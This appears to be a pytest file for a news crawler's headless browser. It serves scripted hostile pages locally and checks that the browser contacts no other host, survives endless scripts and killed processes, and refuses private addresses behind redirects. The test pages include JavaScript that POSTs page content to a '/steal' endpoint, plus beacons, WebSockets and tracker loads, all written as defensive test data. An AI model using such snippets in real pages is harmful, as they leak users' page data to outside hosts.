"""Pages that would lead the browser astray, hold it up or bring it down: bounded, and the crawl goes on."""

import json
import os
import signal
import socket
import subprocess
import threading
import time
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from command_line import COMMAND, environment
from scripted_site import Answer, article_page, front_page, serving

OUTLET = """
from newsbot.middlewares import browser, traffic
from newsbot.spiders.base import NewsSpider

browser.PAGE_SECONDS, browser.PAGES_A_BROWSER, traffic.TIMEOUT_SECONDS = {page_seconds}, 3, 2

class HostileSpider(NewsSpider):
    name = "hostile"
    allowed_domains = ["127.0.0.1"]
    start_urls = ["{url}"]
    article_pattern = r"^/article/\\d+"
    render = {render}
"""


def scripted(number, script="", ahead="", **answer):
    """An article's page that is written by its script, after *script* has run."""
    body = article_page(number, 0).body.partition("<body>")[2].partition("</body>")[0]
    code = f"{script};document.getElementById('app').innerHTML = {json.dumps(body)};".replace("</", "<\\/")
    return Answer(f"<html><body>{ahead}<div id='app'></div><script>{code}</script></body></html>", **answer)


def started(site, folder, *arguments, page_seconds=30, render=True):
    outlet = OUTLET.format(url=site.url, page_seconds=page_seconds, render=render)
    (folder / "hostile_outlets.py").write_text(outlet, encoding="utf-8")
    settings = ("SPIDER_MODULES=hostile_outlets", "NEWSBOT_LOOPBACK_ALLOWED=1", "DOWNLOAD_DELAY=0")
    options = [word for setting in settings for word in ("-s", setting)]
    return subprocess.Popen(
        [*COMMAND, "crawl", "hostile", *options, *arguments],
        cwd=folder,
        env=environment(PYTHONPATH=str(folder)),
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
    )


def ended(process, code=0):
    _, messages = process.communicate(timeout=120)
    assert process.returncode == code, messages
    assert "Traceback" not in messages, messages
    assert "never retrieved" not in messages, messages
    return messages


def headlines(folder):
    lines = [line for feed in (folder / "data").rglob("*Z.jsonl") for line in feed.read_text("utf-8").splitlines()]
    return {json.loads(line)["headline"] for line in lines}


def wanted(*numbers):
    return {f"عنوان الخبر رقم {number}" for number in numbers}


@contextmanager
def listening():
    """A port, and the list of the connections that came to it."""
    came = []

    def accept():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            came.append(connection.recv(300))
            connection.close()

    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)


def test_nothing_but_the_site_is_asked(tmp_path):
    """Another server of this machine stands for all that a page must not make the browser ask."""
    with listening() as (port, came):
        other = f"http://localhost:{port}"
        ahead = (
            f'<link rel="preconnect" href="{other}"><link rel="dns-prefetch" href="{other}">'
            f'<img src="{other}/p.png"><img src="/p.png"><iframe src="{other}/"></iframe><iframe src="/frame"></iframe>'
            f'<script src="{other}/tracker.js"></script><link rel="stylesheet" href="{other}/s.css">'
            '<link rel="stylesheet" href="/private.css"><script src="/missing.js"></script>'
        )
        pages = [
            f"fetch('{other}/steal', {{method: 'POST', body: document.body.innerHTML}}).catch(() => 0)",
            f"new WebSocket('ws://localhost:{port}/'); navigator.sendBeacon('{other}/beacon', 'x')",
            f"window.open('{other}/popup'); window.open('/popup')",
            f"try {{ new EventSource('{other}/events') }} catch (error) {{}}",
            f"setTimeout(() => location.href = '{other}/away', 50)",
            "setTimeout(() => location.href = '/file.zip', 50)",
            "alert('تنبيه'); confirm('؟'); prompt('؟'); window.onbeforeunload = () => 'لا'",
            "navigator.serviceWorker.register('/worker.js').catch(() => 0)",
            "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:" + str(port) + "'}]});"
            " pc.createDataChannel('x'); pc.createOffer().then(offer => pc.setLocalDescription(offer))",
        ]
        script = {f"/article/{n}": [scripted(n, code, ahead)] for n, code in enumerate(pages, 1)}
        script |= {"/": [front_page(len(pages))], "/robots.txt": [Answer("User-agent: *\nDisallow: /private\n")]}
        with serving(script) as site:
            ended(started(site, tmp_path))
            asked = set(site.paths())
    assert headlines(tmp_path) == wanted(*range(1, len(pages) + 1))
    assert came == []
    assert asked == {"/", "/robots.txt", "/missing.js", *(path for path in script if path.startswith("/article/"))}


def test_cookies_data_and_redirects_are_what_a_page_expects(tmp_path):
    body = article_page(1, 0).body.partition("<body>")[2].partition("</body>")[0]
    code = (
        "document.cookie = 'seen=yes; path=/';"
        "const ask = () => fetch('/api?page=1', {method: 'POST', headers: {'X-Key': 'k'}, body: 'طلب'});"
        "setTimeout(() => ask().then(answer => answer.text())"
        ".then(text => { document.getElementById('app').innerHTML = text; }), 500)"
    )
    shell = Answer(f"<html><body><div id='app'></div><script>{code}</script></body></html>")
    script = {"/": [front_page(1)], "/robots.txt": [Answer("")], "/article/1": [shell]}
    script |= {"/api?page=1": [Answer(status=307, headers={"Location": "/api/2"})], "/api/2": [Answer(body)]}
    with serving(script) as site:
        ended(started(site, tmp_path))
        headers = {path: sent for _, path, sent in site.asked}
    assert headlines(tmp_path) == wanted(1)
    assert headers["/api?page=1"]["Cookie"] == "seen=yes"
    assert headers["/api?page=1"]["X-Key"] == "k"
    assert headers["/api?page=1"]["User-Agent"].startswith("newsbot/")


def test_private_addresses_are_refused_behind_redirects(tmp_path):
    script = {"/": [front_page(1)], "/robots.txt": [Answer("")]}
    script["/article/1"] = [scripted(1, ahead='<script src="/hop.js"></script>')]
    script["/hop.js"] = [Answer(status=302, headers={"Location": "http://10.0.0.7/x.js"})]
    with serving(script) as site:
        at = time.monotonic()
        ended(started(site, tmp_path))
    assert headlines(tmp_path) == wanted(1)
    assert time.monotonic() - at < 20


def test_pages_that_never_end_are_bounded(tmp_path):
    script = {"/": [front_page(3)], "/robots.txt": [Answer("")], "/slow.js": [Answer("", seconds=60)]}
    script["/article/1"] = [scripted(1, "while (true) {}")]
    script["/article/2"] = [scripted(2, ahead='<script src="/slow.js"></script>')]
    script["/article/3"] = [scripted(3, "setInterval(() => { document.title += '.'; }, 10)")]
    with serving(script) as site:
        messages = ended(started(site, tmp_path, page_seconds=6))
    assert headlines(tmp_path) == wanted(2, 3)
    report = json.loads((tmp_path / "data/reports/hostile/1.json").read_text("utf-8"))
    assert report["frontier"]["failed/browser_timeout"] == 1
    assert "not done in 6 s" in messages


def processes_below(pid):
    """Every process that *pid* has started, and theirs, with the command line of each."""
    parents, commands = {}, {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            parents[int(folder.name)] = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
            commands[int(folder.name)] = (folder / "cmdline").read_bytes().decode().replace("\0", " ")
        except (FileNotFoundError, ProcessLookupError):
            continue
    below, fresh = set(), {pid}
    while fresh:
        fresh = {child for child, parent in parents.items() if parent in fresh}
        below |= fresh
    return {child: commands[child] for child in below if child in commands}


@pytest.mark.parametrize("victim", ["chromium", "driver"])
def test_a_killed_browser_is_started_again(tmp_path, victim):
    def is_victim(command):
        is_chromium = "--headless" in command and "--type=" not in command
        return is_chromium if victim == "chromium" else "run-driver" in command

    script = {"/": [front_page(10)], "/robots.txt": [Answer("")]}
    script |= {f"/article/{n}": [scripted(n)] for n in range(1, 11)}
    killed = []
    with serving(script) as site:
        # On a slow machine both kills may strike the same pages before they are made: two tries more than they cost.
        process = started(site, tmp_path, "-s", "RETRY_TIMES=6")
        deadline = time.monotonic() + 60
        while len(killed) < 2 and process.poll() is None and time.monotonic() < deadline:
            found = [pid for pid, command in processes_below(process.pid).items() if is_victim(command)]
            if found and found[0] not in killed:
                time.sleep(0.7)
                killed.append(found[0])
                os.kill(found[0], signal.SIGKILL)
            time.sleep(0.05)
        ended(process)
        assert len(killed) == 2
        assert not processes_below(process.pid)
    assert headlines(tmp_path) == wanted(*range(1, 11))


def test_a_browser_that_does_not_start_costs_no_page_for_good(tmp_path):
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 1\n", encoding="utf-8")
    broken.chmod(0o755)
    script = {"/": [front_page(4)], "/robots.txt": [Answer("")]}
    script |= {f"/article/{n}": [scripted(n)] for n in range(1, 5)}
    with serving(script) as site:
        messages = ended(started(site, tmp_path, "-s", f"NEWSBOT_BROWSER_PATH={broken}"), code=0)
        assert messages.count("Chromium does not run: pages that want it are left") == 1
        assert len(messages.splitlines()) < 25
        assert not headlines(tmp_path)
        report = json.loads((tmp_path / "data/reports/hostile/1.json").read_text("utf-8"))
        assert report["frontier"]["failed/browser_crashed"] == 4
